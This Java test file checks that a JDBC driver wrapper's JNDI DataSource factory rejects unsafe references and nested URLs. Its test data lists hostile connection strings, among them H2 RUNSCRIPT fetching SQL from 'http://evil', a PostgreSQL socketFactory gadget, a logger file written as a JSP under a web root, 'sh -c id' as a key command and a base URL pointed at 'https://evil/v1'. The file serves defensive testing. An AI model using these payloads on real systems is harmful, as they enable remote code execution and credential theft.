// SPDX-License-Identifier: Apache-2.0
package dev.nljdbc.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.nljdbc.error.NlException;
import java.sql.DriverManager;
import java.util.Hashtable;
import java.util.concurrent.atomic.AtomicInteger;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.NamingException;
import javax.naming.Reference;
import javax.naming.StringRefAddr;
import javax.naming.spi.ObjectFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What whoever writes references to a naming service, or URLs of URLs, can't have done by them. */
class ReferenceDoorsTest {

  /** As the factories of application servers, by which any bean can be made and set. */
  public static final class AnyBean implements ObjectFactory {

    static final AtomicInteger MADE = new AtomicInteger();

    /** Counts. */
    public AnyBean() {
      MADE.incrementAndGet();
    }

    @Override
    @SuppressWarnings("JdkObsolete")
    public Object getObjectInstance(
        Object object, Name name, Context context, Hashtable<?, ?> environment) {
      MADE.incrementAndGet();
      return new NlDataSource();
    }
  }

  private static Reference reference(Class<?> type, String... namesAndTexts) {
    Reference reference = new Reference(type.getName(), NlDataSourceFactory.class.getName(), null);
    for (int i = 0; i < namesAndTexts.length; i += 2) {
      reference.add(new StringRefAddr(namesAndTexts[i], namesAndTexts[i + 1]));
    }
    return reference;
  }

  private static Object made(Reference reference) throws Exception {
    return new NlDataSourceFactory().getObjectInstance(reference, null, null, null);
  }

  @Test
  void reference_anyFactoryInside_isNotRun() {
    for (Class<?> type :
        new Class<?>[] {NlDataSource.class, NlPooledDataSource.class, NlXaDataSource.class}) {
      Reference reference =
          reference(
              type,
              "inside.class",
              NlDataSource.class.getName(),
              "inside.factory",
              AnyBean.class.getName());
      assertThatThrownBy(() -> made(reference))
          .isInstanceOf(NamingException.class)
          .hasMessageContainingAll(AnyBean.class.getName(), "has the URL instead");
    }
    assertThat(AnyBean.MADE).hasValue(0);
  }

  @Test
  void reference_ofAnotherClass_isNotLookedAt() throws Exception {
    Reference reference =
        new Reference("javax.el.ELProcessor", NlDataSourceFactory.class.getName(), null);
    reference.add(new StringRefAddr("inside.class", "x"));
    reference.add(new StringRefAddr("inside.factory", AnyBean.class.getName()));
    assertThat(made(reference)).isNull();
    assertThat(AnyBean.MADE).hasValue(0);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          url | jdbc:nl:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'
          url | jdbc:nl:h2:mem:x;ini%54=CREATE ALIAS X AS '..'
          url | jdbc:nl:postgresql://h/d?socketFactory=some.Spring&socketFactoryArg=http://evil
          url | jdbc:nl:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/srv/web/x.jsp
          property.INIT | RUNSCRIPT FROM 'x'
          property.socketFactory | some.Class
          property.autoDeserialize | true
          property.ha.loadBalanceStrategy | some.Class
          property.session_init_sql_file | /tmp/x.sql
          property.enable_load_extension | true
          inside.address.url | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
          inside.address.URL | jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'
          inside.address.sslfactory | some.Class
          inside.address.serverName | evil/d?socketFactory=some.Spring&socketFactoryArg=http://evil&
          inside.address.databaseName | d?autoDeserialize
          inside.address.options | a&socket%46actory=some.Class
          property.nl.api-key-command | sh -c id
          property.NL.Api-Key-Command | sh -c id
          property.nl.api-key-file | /home/me/.secret
          property.nl.config | /tmp/mine.properties
          property.nl.base-url | https://evil/v1
          property.nl.lab.embedder.base-url | https://evil/v1
          url | jdbc:nl:h2:mem:x;nl.model=m;nl.base-url=https://evil/v1
          url | jdbc:nl:h2:mem:x;nl.api-key-command=sh -c id
          url | jdbc:nl:h2:mem:x;nl.model=m;nl.api-key-file=/home/me/.secret
          url | jdbc:nl:postgresql://h/d?nl.conf%69g=/tmp/mine.properties
          """)
  void reference_whatRunsCodeAtConnecting_isRefused(String name, String text) {
    assertThatThrownBy(() -> made(reference(NlDataSource.class, name, text)))
        .isInstanceOf(NamingException.class)
        .hasMessageContaining("only from a program's own URL or properties");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          url | jdbc:nl:postgresql://init/d?sslmode=verify-full&sslrootcert=/etc/ca.pem
          property.sslfactory | org.postgresql.ssl.DefaultJavaSSLFactory
          property.allowLocalInfile | false
          property.nl.model | gpt-4.1
          user | init
          inside.address.databaseName | init
          password | a=b
          """)
  void reference_harmless_isMade(String name, String text) throws Exception {
    assertThat(made(reference(NlDataSource.class, name, text))).isInstanceOf(NlDataSource.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:nl:jdbc:nl:h2:mem:x",
        "jdbc:nl:nl:h2:mem:x",
        "jdbc:nl:jdbc:nl:jdbc:nl:jdbc:nl:sqlite::memory:",
        "JDBC:NL:JDBC:NL:h2:mem:x"
      })
  void url_ofUrls_endsInWords(String url) {
    assertThatThrownBy(() -> DriverManager.getConnection(url))
        .isInstanceOf(NlException.class)
        .hasMessageMatching("(?is)There is no JDBC driver for jdbc:nl: here.*");
  }
}
